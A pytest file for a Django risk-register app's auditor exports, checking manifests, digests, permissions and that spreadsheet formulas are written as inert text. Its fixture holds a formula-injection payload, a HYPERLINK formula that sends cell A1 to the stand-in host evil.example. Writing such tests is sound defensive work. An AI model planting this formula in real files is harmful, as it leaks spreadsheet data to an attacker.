"""Exports for auditors: admin bundles with a SHA-256 manifest, API ?format=csv/xlsx, formulas neutralised."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import zipfile

import openpyxl
import pytest

from models_catalog.models import Organisation, ProvenanceClaim
from riskreg.core.exports import neutralise
from tests.conftest import staff_client

# Every test here runs on the rows the module builds once (tests/conftest.py, built_once_for_the_module).
pytestmark = pytest.mark.usefixtures("_demo_catalog")

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def booby_trapped(catalog):
    """An organisation whose notes a spreadsheet would run."""
    return Organisation.objects.create(name="Trap Ltd.", country="GB", notes=FORMULA, short_name="+trap")


def digest(content: bytes) -> str:
    return f"sha-256=:{base64.b64encode(hashlib.sha256(content).digest()).decode()}:"


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("Zhipu", "Zhipu"),
        ("a\x1db", "a\ufffdb"),
        ("ok;=1+1;@SUM(9*9)", "ok;'=1+1;'@SUM(9*9)"),  # where ";" separates cells (issue 26 item 7)
        ("a; -b", "a; '-b"),
        ("Terms; see page 3", "Terms; see page 3"),
    ],
)
def test_values_a_spreadsheet_would_run_are_written_as_text(value, shown):
    assert neutralise(value) == shown


def test_the_api_gives_the_whole_filtered_table_as_csv_with_its_digest(catalog, as_user, auditor):
    response = as_user(auditor).get("/api/claims/", {"format": "csv", "model__slug": "glm-5"})

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Repr-Digest"] == digest(response.content)
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert len(rows) == ProvenanceClaim.objects.filter(model__slug="glm-5").count() == 2
    assert {row["model"] for row in rows} == {"glm-5"}


def test_api_csv_is_not_paginated(catalog, as_user, auditor):
    response = as_user(auditor).get("/api/organisations/", {"format": "csv", "page_size": 2})
    assert len(list(csv.DictReader(io.StringIO(response.content.decode())))) == Organisation.objects.count() > 2


def test_api_xlsx_opens_in_a_spreadsheet_with_formulas_as_text(booby_trapped, as_user, auditor):
    response = as_user(auditor).get("/api/organisations/", {"format": "xlsx", "search": "Trap"})

    assert response.status_code == 200 and response["Repr-Digest"] == digest(response.content)
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    row = dict(zip(header, [cell.value for cell in sheet[2]], strict=True))
    assert row["name"] == "Trap Ltd."
    assert row["notes"] == "'" + FORMULA and row["short_name"] == "'+trap"
    assert sheet.cell(row=2, column=header.index("notes") + 1).data_type == "s"  # text, not a formula


def test_a_table_the_user_may_not_read_is_not_exported(catalog, as_user, requester, outsider, api):
    assert as_user(requester).get("/api/screening/hits/", {"format": "csv"}).status_code == 403
    assert as_user(outsider).get("/api/models/", {"format": "csv"}).status_code == 403
    assert api.get("/api/models/", {"format": "csv"}).status_code == 401


def export_action(client, url: str, ids: list[int]):
    return client.post(url, {"action": "export_for_auditors", "_selected_action": ids})


def test_the_admin_exports_the_filtered_selection_with_a_manifest(booby_trapped, auditor):
    url = "/admin/models_catalog/organisation/?country__exact=GB"
    response = export_action(staff_client(auditor), url, [booby_trapped.pk])

    assert response.status_code == 200 and response["Content-Type"] == "application/zip"
    bundle = zipfile.ZipFile(io.BytesIO(response.content))
    manifest = json.loads(bundle.read("manifest.json"))
    assert manifest["rows"] == 1 and manifest["filters"] == {"country__exact": "GB"}
    assert manifest["exported_by"] == "auditor"
    for name, entry in manifest["files"].items():
        assert hashlib.sha256(bundle.read(name)).hexdigest() == entry["sha256"]
    (row,) = csv.DictReader(io.StringIO(bundle.read("models_catalog-organisation.csv").decode()))
    assert row["notes"] == "'" + FORMULA
    (item,) = json.loads(bundle.read("models_catalog-organisation.json"))
    assert item["notes"] == FORMULA  # JSON keeps the value exactly
    sheet = openpyxl.load_workbook(io.BytesIO(bundle.read("models_catalog-organisation.xlsx"))).active
    assert sheet.max_row == 2


def test_the_admin_export_needs_the_view_permission_of_the_table(catalog, requester):
    from riskreg.screening.models import SanctionsList

    SanctionsList.objects.create(code="ofac-sdn", name="SDN", authority="OFAC")
    response = export_action(staff_client(requester), "/admin/screening/sanctionslist/", [1])
    assert response.status_code == 403


def test_user_accounts_are_not_exported(admin_user):
    client = staff_client(admin_user)
    response = export_action(client, "/admin/auth/user/", [admin_user.pk])
    assert response.status_code == 302  # back to the list with a message; no file
    assert b"pbkdf2" not in response.content and b"md5$" not in response.content
